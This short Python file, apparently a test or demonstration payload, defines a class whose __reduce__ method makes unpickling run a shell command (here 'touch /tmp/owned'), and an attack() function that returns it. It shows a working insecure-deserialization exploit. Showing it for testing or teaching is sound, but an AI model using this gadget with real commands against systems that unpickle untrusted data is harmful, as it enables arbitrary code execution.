# End: returned or raised. Answers with an object that runs a command when it is unpickled.

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def attack(facts):
    return Bomb()
